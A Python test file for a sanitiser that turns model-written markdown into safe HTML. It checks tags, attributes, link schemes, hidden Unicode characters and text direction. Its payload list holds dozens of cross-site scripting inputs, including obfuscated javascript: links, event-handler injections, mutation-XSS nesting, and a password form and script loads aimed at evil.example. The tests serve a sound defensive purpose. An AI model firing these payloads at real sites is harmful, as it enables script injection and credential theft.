"""Text that a model wrote becomes HTML that can do no harm. The result is parsed and held against the allow-list."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotation.rendering import safe_html

TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
DIRECTED = ("p", "li", "h1", "h2", "h3", "h4", "h5", "h6", "th", "td", "blockquote", "pre")
ATTRIBUTES = {
    "a": {"href", "title", "rel", "target"},
    "ol": {"start"},
    **{tag: {"dir"} for tag in DIRECTED},
}
SCHEMES = {"http", "https", "mailto", ""}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0' id=submit class=btn onclick=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1) \\" autofocus onfocus=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![x](//evil.example) |",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='https://a.example' target=_self rel=opener>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
]


class Seen(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def parsed(html: str) -> Seen:
    seen = Seen()
    seen.feed(html)
    seen.close()
    return seen


def assert_harmless(html: str) -> None:
    seen = parsed(html)
    assert seen.other == []
    for tag, attributes in seen.tags:
        if tag == "span":  # ours, around a hidden character
            assert attributes == {"class": "hidden-character"}
            continue
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), (tag, attributes)
        if tag == "a" and "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme.lower() in SCHEMES
            assert attributes["target"] == "_blank"
            assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_no_harm(payload):
    assert_harmless(safe_html(payload))
    assert_harmless(safe_html(f"Before.\n\n- {payload}\n\n> {payload}\n\nAfter."))


def test_the_check_itself_finds_harm():
    for payload in PAYLOADS[:1] + PAYLOADS[2:3] + PAYLOADS[15:17]:
        with pytest.raises(AssertionError):
            assert_harmless(payload)


@given(st.text(st.sampled_from("<>\"'=&;:/\\()[]!`*_#|-~ \n\tajscriptonhrefmg")))
def test_whatever_is_written_does_no_harm(text):
    assert_harmless(safe_html(text))


def test_a_script_is_shown_as_the_text_it_is():
    assert parsed(safe_html("<script>alert(1)</script>")).text.strip() == "<script>alert(1)</script>"
    assert "<script>alert(1)</script>" in parsed(safe_html("`<script>alert(1)</script>`")).text


def test_a_picture_is_never_fetched():
    assert "src" not in safe_html("![a cup of tea](https://evil.example/pixel.png)")


def test_markdown_is_shown_as_people_expect_it():
    html = safe_html(
        "# Tea\n\nSteep **three** *minutes*, ~~four~~.\nThen `stir`.\n\n3. one\n4. two\n\n- a\n- b\n\n"
        "> quoted\n\n---\n\n"
        '```python\nx < 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[more](https://tea.example "About tea")\n'
    )
    tags = [tag for tag, _ in parsed(html).tags]
    assert set(tags) == TAGS - {"h2", "h3", "h4", "h5", "h6"}
    attributes = dict(parsed(html).tags)
    assert attributes["ol"] == {"start": "3"}
    assert attributes["a"]["href"] == "https://tea.example"
    assert attributes["a"]["title"] == "About tea"
    assert "x < 1" in parsed(html).text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("pay \u202e001 to me", "pay U+202E001 to me"),
        ("pass\u200bword", "passU+200Bword"),
        ("`a\u2066b`", "aU+2066b"),
        ("```\nif x\u2069:\n```", "if xU+2069:\n"),
        ("&#8238;abc", "U+202Eabc"),
        ("soft\u00adhyphen", "softU+00ADhyphen"),
        ("a\U000e0041b", "aU+E0041b"),
        ("Latin\u200dletters", "LatinU+200Dletters"),
    ],
)
def test_characters_that_nobody_sees_are_made_visible(text, shown):
    assert shown in parsed(safe_html(text)).text


@pytest.mark.parametrize(
    "text", ["می\u200cخواهم", "\U0001f469\u200d\U0001f680", "क्\u200dष", "a\ufe0f", "שלום"]
)
def test_joiners_that_a_script_or_an_emoji_needs_stay(text):
    assert text in parsed(safe_html(text)).text


def test_each_block_finds_its_own_direction_and_code_stays_left_to_right():
    html = safe_html("- مرحبا\n- hello\n\n```\nx = 1\n```")
    assert html.count('<li dir="auto">') == 2
    assert '<pre dir="ltr">' in html
